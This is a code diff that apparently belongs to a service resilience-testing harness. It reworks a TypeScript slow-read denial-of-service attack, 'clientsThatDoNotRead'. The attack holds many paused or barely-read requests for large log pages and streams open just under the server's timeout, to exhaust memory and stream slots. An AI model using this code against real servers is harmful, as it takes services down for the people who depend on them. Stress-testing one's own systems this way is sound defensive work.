@@ -14,16 +14,36 @@ function logsOf({ victims }: Target, index: number, more: string): string {
   return `/nodes/logs?peer_id=${victims[index % victims.length] ?? ''}&${more}`;
 }
 
-/** Requests with long responses, of which nothing is read. */
+/** Addresses of those that do not read. Two of them can have all places of streams. */
+const FEW = 3;
+/** As long as a server waits for a client, nearly: milliseconds. */
+const AGAIN_MS = 28_000;
+
+/**
+ * Requests with long answers of a few addresses: pages that are held in memory, and streams, of which nothing is read,
+ * or as little as a server bears.
+ */
 export const clientsThatDoNotRead: Attack = async (target) => {
   const end = endOf(target);
   const sockets: Socket[] = [];
-  await repeat(end, 5_000, () => {
-    for (let index = 0; index < 20; index += 1) {
-      const more = index < 10 ? 'limit=3000' : 'format=ndjson';
-      sockets.push(get(target, index, logsOf(target, index, more)).pause());
+  const ask = (index: number, more: string): Socket => {
+    const peer = target.large[index % target.large.length] ?? '';
+    const socket = get(target, index % FEW, `/nodes/logs?peer_id=${peer}&${more}`).pause();
+    sockets.push(socket);
+    return socket;
+  };
+  const pages = repeat(end, AGAIN_MS / 4, () => {
+    for (let index = 0; index < 18; index += 1) ask(index, 'limit=900');
+  });
+  const streams = repeat(end, Math.min(AGAIN_MS, (target.seconds * 1000) / 3), (turn) => {
+    for (let index = 0; index < 10; index += 1) {
+      const socket = ask(index, index % 2 === 0 ? 'limit=3000' : 'format=ndjson');
+      if (turn % 2 === 0) continue;
+      const sips = setInterval(() => void socket.read(), 1_000);
+      socket.once('close', () => clearInterval(sips));
     }
   });
+  await Promise.all([pages, streams]);
   for (const socket of sockets) socket.destroy();
   return { requests: sockets.length };
 };
